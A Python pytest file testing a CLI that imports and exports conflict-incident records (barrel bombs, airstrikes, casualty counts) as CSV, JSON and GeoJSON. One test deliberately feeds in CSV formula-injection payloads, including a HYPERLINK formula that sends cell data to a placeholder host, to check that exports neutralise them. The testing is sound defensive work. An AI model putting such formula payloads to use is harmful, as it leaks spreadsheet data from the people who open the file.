"""`rushes incidents export` and `import`, run as the real command: exports read back by
Python's csv module and a GeoJSON validator, imports that name each bad row by its line."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import geojson
import pytest
from sqlalchemy import select

from rushes.base import Base
from rushes.catalog.models import Asset, Incident, IncidentChange, Project, User
from rushes.exports.incidents import COLUMNS
from rushes.review import accounts
from rushes.review.access import Role, viewer_for
from rushes.review.incidents import create_incident
from rushes.review.projects import create_project
from tests.clips import make_video
from tests.conftest import Env

GOOD = {
    "code": "ALP-2016-0412",
    "title": "Barrel bomb, al-Shaar",
    "type": "barrel-bomb",
    "started_at": "2016-04-12T14:30:00+03:00",
    "ended_at": "2016-04-12T18:00:00+03:00",
    "place": "Aleppo",
    "latitude": "36.2",
    "longitude": "37.15",
    "accuracy_m": "250",
    "people_present": "40",
    "rescued": "12",
    "killed": "5",
    "volunteers_killed": "1",
    "verification": "verified",
    "description": "Second strike on the rescuers",
}


@pytest.fixture
def register(env: Env, base: Base, tmp_path: Path) -> str:
    """Project "film" with the CLI's actor ("tester") as director, a crew member and one clip."""
    with base.catalog.write() as session:
        film = create_project(session, "film", "The Rescue")
        create_project(session, "copy", "A copy")
        for name, role in (("tester", Role.DIRECTOR), ("crewie", Role.CREW)):
            user = accounts.create_user(session, name, "correct horse battery")
            accounts.add_member(session, film, user, role)
    card = tmp_path / "card"
    card.mkdir()
    make_video(card / "strike.mp4", seconds=1)
    env.run("ingest", str(card), "-p", "film")
    with base.catalog.read() as session:
        return session.scalars(select(Asset.sha256)).one()


def _direct_the_copy(base: Base) -> None:
    """The CLI's actor joins project "copy", to import an export into it."""
    with base.catalog.write() as session:
        tester = session.scalar(select(User).where(User.username == "tester"))
        copy = session.scalar(select(Project).where(Project.slug == "copy"))
        accounts.add_member(session, copy, tester, Role.DIRECTOR)


def _csv(rows: list[dict[str, str] | str]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, COLUMNS, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        if isinstance(row, str):
            out.write(row + "\n")
        else:
            writer.writerow(row)
    return out.getvalue()


def test_import_names_bad_rows_by_line_and_commits_only_when_asked(
    env: Env, base: Base, register: str, tmp_path: Path
) -> None:
    sha = register
    later = {**GOOD, "code": "", "place": "Idlib", "started_at": "2016-05-01T09:00:00+03:00"}
    del later["ended_at"]
    text = _csv(  # the first row spans lines 2-3: its description has a newline
        [
            {**GOOD, "assets": f"{sha}:strike", "description": "Second strike\non the rescuers"},
            {**GOOD, "code": "X-1", "killed": "41"},  # 4
            {**GOOD, "code": "X-2", "latitude": "95"},  # 5
            {**later, "related": "ALP-2016-0412"},  # 6: related to a row above
            {**GOOD, "description": ""},  # 7: the same id again
            {**GOOD, "code": "X-3", "type": "meteor"},  # 8
            {**GOOD, "code": "X-4", "ended_at": "2016-04-12T10:00:00+03:00"},  # 9
            "X-5,a,fire,2016-01-01T00:00:00+00:00" + "," * len(COLUMNS),  # 10: too many cells
            {**GOOD, "code": "X-6", "started_at": "2016-04-12T14:30"},  # 11: no offset
            {**GOOD, "code": "X-7", "assets": "deadbeefdeadbeef:strike"},  # 12
        ]
    )
    path = tmp_path / "incidents.csv"
    path.write_text(text, encoding="utf-8")
    expected = [
        "line 4: killed: 41 is more than the 40 people present",
        "line 5: latitude: 95 is outside -90 to 90",
        "line 7: code: 'ALP-2016-0412' is already used in this project",
        "line 8: type: 'meteor' is unknown",
        "line 9: ended_at: the end is before the start",
        "line 10: ",
        "line 11: started_at: give the UTC offset",
        "line 12: no clip deadbeefdead in project 'film'",
    ]

    dry = env.run("incidents", "import", str(path), "--project", "film", check=False)
    assert dry.returncode == 1, dry.stderr
    lines = dry.stdout.splitlines()
    assert len(lines) == len(expected) + 1
    for line, start in zip(lines, expected, strict=False):
        assert line.startswith(start), (line, start)
    assert "more cell(s) than the header has columns" in lines[5]
    assert "2 incident(s) would be imported (dry run: give --commit); 8 row(s) refused" in lines[-1]
    with base.catalog.read() as session:
        assert session.scalars(select(Incident)).all() == []

    crew = env.run(
        "incidents", "import", str(path), "--project", "film", "--as", "crewie", check=False
    )
    assert crew.returncode == 1 and "only admins, directors and investigators" in crew.stderr
    nobody = env.run(
        "incidents", "import", str(path), "--project", "film", "--as", "x", check=False
    )
    assert nobody.returncode == 1 and "no user 'x'" in nobody.stderr

    done = env.run("incidents", "import", str(path), "--project", "film", "--commit", check=False)
    assert done.returncode == 1
    assert done.stdout.splitlines()[-1] == "2 incident(s) imported; 8 row(s) refused"
    with base.catalog.read() as session:
        incidents = {i.code: i for i in session.scalars(select(Incident))}
        assert sorted(incidents) == ["ALP-2016-0412", "IDL-2016-0501"]
        first = incidents["ALP-2016-0412"]
        assert first.description == "Second strike\non the rescuers" and first.injured is None
        history = session.execute(
            select(IncidentChange.field, IncidentChange.new).where(
                IncidentChange.incident_id == first.id
            )
        ).all()
    assert ("created", json.dumps("import incidents.csv line 2")) in history
    assert ("footage", json.dumps(f"{sha} strike")) in history
    assert ("related", json.dumps("IDL-2016-0501")) in history


def test_exports_read_back_and_import_again(env: Env, base: Base, register: str, tmp_path: Path):
    sha = register
    unplaced = {**GOOD, "code": "", "latitude": "", "longitude": "", "place": "", "ended_at": "",
                "type": "fire", "started_at": "2016-06-01T10:00:00-05:00"}  # fmt: skip
    source = tmp_path / "in.csv"
    source.write_text(_csv([{**GOOD, "assets": f"{sha}:rescue"}, unplaced]), encoding="utf-8")
    env.run("incidents", "import", str(source), "--project", "film", "--commit")

    text = env.run("incidents", "export", "--project", "film").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["code"] for r in rows] == ["ALP-2016-0412", "FIR-2016-0601"]
    assert rows[0]["assets"] == f"{sha}:rescue" and rows[0]["killed"] == "5"
    assert rows[0]["verified_by"] == "tester" and rows[0]["injured"] == ""
    assert rows[1]["started_at"] == "2016-06-01T10:00:00-05:00"

    out = tmp_path / "film.geojson"
    env.run("incidents", "export", "--project", "film", "--format", "geojson", "-o", str(out))
    collection = geojson.loads(out.read_text(encoding="utf-8"))
    assert collection.is_valid, collection.errors()
    located, unlocated = collection["features"]
    assert located["geometry"] == {"type": "Point", "coordinates": [37.15, 36.2]}
    assert unlocated["geometry"] is None
    assert located["properties"]["assets"] == [{"sha256": sha, "relation": "rescue"}]

    fires = env.run(
        "incidents", "export", "--project", "film", "--format", "json", "--type", "fire"
    ).stdout
    assert [i["code"] for i in json.loads(fires)["incidents"]] == ["FIR-2016-0601"]
    june = env.run("incidents", "export", "--project", "film", "--from", "2016-06-01").stdout
    assert len(list(csv.DictReader(io.StringIO(june)))) == 1
    bad = env.run("incidents", "export", "--project", "film", "--to", "June", check=False)
    assert bad.returncode == 2 and "to: give a date as YYYY-MM-DD" in bad.stderr

    # The export is the import's format: it goes into another project unchanged (its clips
    # are not in that project, so the row that names one is refused there).
    exported = tmp_path / "film.csv"
    exported.write_text(text, encoding="utf-8")
    _direct_the_copy(base)
    again = env.run("incidents", "import", str(exported), "--project", "copy", check=False)
    assert again.stdout.splitlines()[0].startswith("line 2: no clip")
    assert "1 incident(s) would be imported" in again.stdout


def test_csv_text_never_opens_as_a_formula_and_reads_back_as_typed(
    env: Env, base: Base, register: str, tmp_path: Path
) -> None:
    title = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    place = "@SUM(1+1)"
    description = "-2 since the morning: a note that starts with a minus"
    source = tmp_path / "in.csv"
    source.write_text(
        _csv([{**GOOD, "title": title, "place": place, "description": description}]),
        encoding="utf-8",
    )
    env.run("incidents", "import", str(source), "--project", "film", "--commit")

    text = env.run("incidents", "export", "--project", "film").stdout
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["title"] == "'" + title and row["place"] == "'" + place
    assert row["description"] == "'" + description
    assert row["latitude"] == "36.2" and row["killed"] == "5"  # numbers stay numbers

    exported = tmp_path / "film.csv"
    exported.write_text(text, encoding="utf-8")
    _direct_the_copy(base)
    env.run("incidents", "import", str(exported), "--project", "copy", "--commit")
    with base.catalog.read() as session:
        copied = session.scalar(select(Incident).join(Project).where(Project.slug == "copy"))
        assert copied is not None
        assert (copied.title, copied.place, copied.description) == (title, place, description)


# the hold's refusal is read before the catalog is written: one database is enough
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_a_hold_on_a_folder_vault_is_refused_and_a_mistyped_incident_named(
    env: Env, base: Base, register: str
) -> None:
    with base.catalog.write() as session:
        user = session.scalar(select(User).where(User.username == "tester"))
        viewer = viewer_for(session, user, "film")
        create_incident(
            session,
            viewer,
            {
                "code": "ALS-1",
                "title": "Strike",
                "type": "airstrike",
                "started_at": "2024-11-03T14:02+03:00",
            },
        )
    refused = env.run("incidents", "hold", "ALS-1", "--project", "film", check=False)
    assert refused.returncode == 1 and "legal holds need an S3 vault" in refused.stderr
    typo = env.run("incidents", "hold", "ALS-l", "--project", "film", check=False)
    assert typo.returncode == 1 and "no incident 'ALS-l'" in typo.stderr, typo.stderr
